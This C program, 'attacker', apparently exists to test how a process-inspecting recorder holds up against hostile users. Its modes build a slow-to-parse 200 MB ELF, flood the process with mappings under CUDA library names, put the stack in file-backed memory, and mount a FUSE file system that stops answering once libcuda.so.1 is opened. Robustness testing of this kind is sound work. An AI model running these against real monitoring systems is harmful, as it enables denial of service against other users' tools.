/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What any user of a host may do to a recorder that inspects his files and processes:
 *
 *	attacker elf FILE     make a library of 200 MB that takes long to read
 *	attacker map FILE MS  map it as code, and stay for so long
 *	attacker flood DIR MS with 31,000 mappings, map a new library of CUDA's name every 2 ms
 *	attacker stack FILE MS  sleep for so long with its stack in that file's memory
 *	attacker fuse DIR     mount a file system, as root, whose file libcuda.so.1 can be opened once
 *
 * What is asked of that file system later is never answered. The program ends when it is unmounted.
 */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define CODE_AT 4096
#define NSYMBOLS 2000000
#define NAMES_BYTES (160u << 20)
#define FLOOD_MAPPINGS 31000

static int fail(const char *what)
{
	fprintf(stderr, "attacker: %s: %s\n", what, strerror(errno));
	return 1;
}

static uint64_t now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

/* --- a library that takes long to read: each symbol's name stands far from that of the one before --- */

struct head {
	Elf64_Ehdr elf;
	Elf64_Phdr code;
	Elf64_Shdr section[4];
};

static struct head make_head(void)
{
	struct head h = {0};

	memcpy(h.elf.e_ident,
	       "\x7f"
	       "ELF\2\1\1",
	       7);
	h.elf.e_type = ET_DYN;
	h.elf.e_machine = EM_X86_64;
	h.elf.e_version = 1;
	h.elf.e_phoff = offsetof(struct head, code);
	h.elf.e_shoff = offsetof(struct head, section);
	h.elf.e_ehsize = sizeof(h.elf);
	h.elf.e_phentsize = sizeof(h.code);
	h.elf.e_phnum = 1;
	h.elf.e_shentsize = sizeof(h.section[0]);
	h.elf.e_shnum = 4;
	h.code = (Elf64_Phdr){PT_LOAD, PF_R | PF_X, CODE_AT, CODE_AT, CODE_AT, 4096, 4096, 4096};
	h.section[1] = (Elf64_Shdr){.sh_type = SHT_PROGBITS,
				    .sh_flags = SHF_ALLOC | SHF_EXECINSTR,
				    .sh_addr = CODE_AT,
				    .sh_offset = CODE_AT,
				    .sh_size = 4096};
	h.section[2] = (Elf64_Shdr){.sh_type = SHT_SYMTAB,
				    .sh_link = 3,
				    .sh_offset = CODE_AT + 4096,
				    .sh_size = (uint64_t)NSYMBOLS * sizeof(Elf64_Sym),
				    .sh_entsize = sizeof(Elf64_Sym)};
	h.section[3] = (Elf64_Shdr){.sh_type = SHT_STRTAB,
				    .sh_offset = h.section[2].sh_offset + h.section[2].sh_size,
				    .sh_size = NAMES_BYTES};
	return h;
}

static int make_elf(const char *path)
{
	const struct head h = make_head();
	FILE *f = fopen(path, "wb");
	uint64_t random = 1;

	if (!f)
		return fail(path);
	fwrite(&h, sizeof(h), 1, f);
	fseek(f, CODE_AT + 4096, SEEK_SET);
	for (int i = 0; i < NSYMBOLS; i++) {
		Elf64_Sym s = {.st_info = ELF64_ST_INFO(STB_GLOBAL, STT_FUNC), .st_shndx = 1, .st_value = CODE_AT};

		random = random * 6364136223846793005u + 1442695040888963407u;
		s.st_name = (uint32_t)((random >> 33) % NAMES_BYTES);
		fwrite(&s, sizeof(s), 1, f);
	}
	if (fflush(f) || ftruncate(fileno(f), (off_t)(h.section[3].sh_offset + NAMES_BYTES)) || fclose(f))
		return fail(path);
	return 0;
}

static void *map_code(const char *path)
{
	int fd = open(path, O_RDONLY);
	void *at = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);

	if (fd >= 0)
		close(fd);
	return at;
}

static int map_and_stay(const char *path, unsigned ms)
{
	if (map_code(path) == MAP_FAILED)
		return fail(path);
	usleep(ms * 1000);
	return 0;
}

/* --- a flood of mappings --- */

static int flood(const char *folder, unsigned ms)
{
	uint64_t until = now_ms() + ms;
	char path[4096];
	unsigned n = 0;

	/* Every second page, so that the kernel keeps each as a mapping of its own. */
	for (int i = 0; i < FLOOD_MAPPINGS; i++)
		if (mmap(NULL, 4096, i % 2 ? PROT_READ | PROT_EXEC : PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) ==
		    MAP_FAILED)
			return fail("mmap");
	for (; now_ms() < until; usleep(2000)) {
		static const char zero[4096];
		void *at;
		int fd;

		(void)snprintf(path, sizeof(path), "%s/libcuda.so.%u.%u", folder, (unsigned)getpid(), n++);
		fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0644);
		if (fd < 0 || write(fd, zero, sizeof(zero)) < 0)
			return fail(path);
		close(fd);
		at = map_code(path);
		if (at != MAP_FAILED)
			munmap(at, 4096);
		unlink(path);
	}
	return 0;
}

/* --- a file system whose one file can be opened once --- */

#define FILE_INODE 2
#define FILE_NAME "libcuda.so.1"
#define FILE_BYTES 65536

static struct fuse_attr attributes(uint64_t inode)
{
	return (struct fuse_attr){.ino = inode,
				  .size = inode == FILE_INODE ? FILE_BYTES : 0,
				  .mode = inode == FILE_INODE ? S_IFREG | 0755 : S_IFDIR | 0755,
				  .nlink = 1,
				  .blksize = 4096};
}

/* The answer's length behind its head, or a negative errno; -1000: none, ever. */
static int answer(const struct fuse_in_header *in, void *out)
{
	static int opened;

	/* Closing is answered, so that who has it open can end. */
	if (in->opcode == FUSE_FLUSH || in->opcode == FUSE_RELEASE)
		return 0;
	if (opened)
		return -1000;
	switch (in->opcode) {
	case FUSE_INIT:
		*(struct fuse_init_out *)out = (struct fuse_init_out){
			.major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION, .max_write = 65536};
		return sizeof(struct fuse_init_out);
	case FUSE_LOOKUP:
		if (strcmp((const char *)(in + 1), FILE_NAME) != 0)
			return -ENOENT;
		*(struct fuse_entry_out *)out =
			(struct fuse_entry_out){.nodeid = FILE_INODE, .attr = attributes(FILE_INODE)};
		return sizeof(struct fuse_entry_out);
	case FUSE_GETATTR:
		*(struct fuse_attr_out *)out = (struct fuse_attr_out){.attr = attributes(in->nodeid)};
		return sizeof(struct fuse_attr_out);
	case FUSE_OPEN:
		opened = in->nodeid == FILE_INODE;
		*(struct fuse_open_out *)out = (struct fuse_open_out){.fh = 1};
		return sizeof(struct fuse_open_out);
	default:
		return -ENOSYS;
	}
}

static int serve(const char *folder)
{
	static char in[1 << 17];
	struct {
		struct fuse_out_header head;
		char body[256];
	} out;
	char options[128];
	int fd = open("/dev/fuse", O_RDWR);

	if (fd < 0)
		return fail("/dev/fuse");
	(void)snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=65534,group_id=65534,allow_other", fd);
	if (mount("attacker", folder, "fuse", MS_NOSUID | MS_NODEV, options))
		return fail(folder);
	for (;;) {
		ssize_t n = read(fd, in, sizeof(in));
		const struct fuse_in_header *asked = (const void *)in;
		int r;

		if (n < 0)
			return errno == ENODEV ? 0 : fail("read");
		memset(&out, 0, sizeof(out));
		r = answer(asked, out.body);
		if (r == -1000)
			continue;
		out.head.unique = asked->unique;
		out.head.error = r < 0 ? r : 0;
		out.head.len = (uint32_t)sizeof(out.head) + (r > 0 ? (uint32_t)r : 0);
		if (write(fd, &out, out.head.len) < 0 && errno != ENOENT)
			return fail("write");
	}
}

/* Nothing of that memory is touched but by whoever follows the stack. */
static int sleep_on(const char *path, unsigned ms)
{
	struct timespec t = {.tv_sec = ms / 1000, .tv_nsec = (long)(ms % 1000) * 1000000};
	char *stack = map_code(path);

	if (stack == MAP_FAILED)
		return fail(path);
	puts("sleeps");
	fflush(stdout);
#if defined(__x86_64__)
	__asm__ volatile("mov %%rsp, %%rbx\n\tmov %%rbp, %%r12\n\tmov %0, %%rsp\n\tmov %0, %%rbp\n\tsyscall\n\t"
			 "mov %%rbx, %%rsp\n\tmov %%r12, %%rbp"
			 :
			 : "r"(stack), "a"(SYS_nanosleep), "D"(&t), "S"(0)
			 : "rbx", "r12", "rcx", "r11", "memory");
#else
	register long number __asm__("x8") = SYS_nanosleep;
	register void *first __asm__("x0") = &t;
	register long second __asm__("x1") = 0;

	__asm__ volatile("mov x19, sp\n\tmov x20, x29\n\tmov sp, %0\n\tmov x29, %0\n\tsvc #0\n\t"
			 "mov sp, x19\n\tmov x29, x20"
			 : "+r"(stack), "+r"(first)
			 : "r"(number), "r"(second)
			 : "x19", "x20", "memory");
#endif
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "elf"))
		return make_elf(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "map"))
		return map_and_stay(argv[2], (unsigned)atoi(argv[3]));
	if (argc == 4 && !strcmp(argv[1], "stack"))
		return sleep_on(argv[2], (unsigned)atoi(argv[3]));
	if (argc == 4 && !strcmp(argv[1], "flood"))
		return flood(argv[2], (unsigned)atoi(argv[3]));
	if (argc == 3 && !strcmp(argv[1], "fuse"))
		return serve(argv[2]);
	fprintf(stderr, "usage: attacker elf FILE | map FILE MS | stack FILE MS | flood DIR MS | fuse DIR\n");
	return 2;
}
